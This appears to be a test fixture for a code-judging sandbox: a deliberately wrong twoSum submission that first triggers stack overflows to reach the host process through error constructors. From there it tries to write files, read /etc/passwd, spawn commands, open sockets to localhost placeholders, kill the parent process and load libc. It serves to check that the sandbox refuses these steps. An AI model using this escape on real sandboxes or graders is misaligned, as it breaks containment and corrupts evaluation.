// wrong-answer: gets out through an error of the host whose stack overflows
const host = (object) => object.constructor.constructor('return typeof process === "object" ? process : undefined')();
const act = (process) => {
  if (!process) return;
  for (const step of [
    () => process.getBuiltinModule('fs').writeFileSync('__MARKER__', 'x'),
    () => process.getBuiltinModule('fs').readFileSync('/etc/passwd') && process.getBuiltinModule('net').connect(__PORT__, '127.0.0.1'),
    () => process.getBuiltinModule('child_process').execSync('touch __MARKER__'),
    () => new (process.getBuiltinModule('worker_threads').Worker)("require('fs').writeFileSync('__MARKER__', 'x')", { eval: true }),
    () => process.getBuiltinModule('net').connect(__PORT__, '127.0.0.1').on('error', () => undefined),
    () => process.getBuiltinModule('http').get('http://127.0.0.1:__PORT__/host').on('error', () => undefined),
    () => process.getBuiltinModule('dgram').createSocket('udp4').send('x', __UDP__, '127.0.0.1', () => undefined),
    () => process.getBuiltinModule('trace_events').createTracing({ categories: ['v8'] }).enable(),
    () => process.kill(process.ppid, 'SIGKILL'),
    () => process._kill(process.ppid, 9),
    () => process._debugProcess(process.ppid),
    () => process.binding('fs'),
    () => process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'),
    () => process.getBuiltinModule('inspector').open(0),
  ]) {
    try {
      step();
    } catch {
      // refused, as it should be
    }
  }
};
for (const reach of [() => setTimeout(() => undefined, 1), () => clearTimeout(1), () => performance.now(), () => console.log('x')]) {
  const fall = () => {
    try {
      reach();
    } catch (error) {
      act(host(error));
    }
    fall();
  };
  try {
    fall();
  } catch (error) {
    act(host(error));
  }
}
function twoSum() {
  return [0, 0];
}
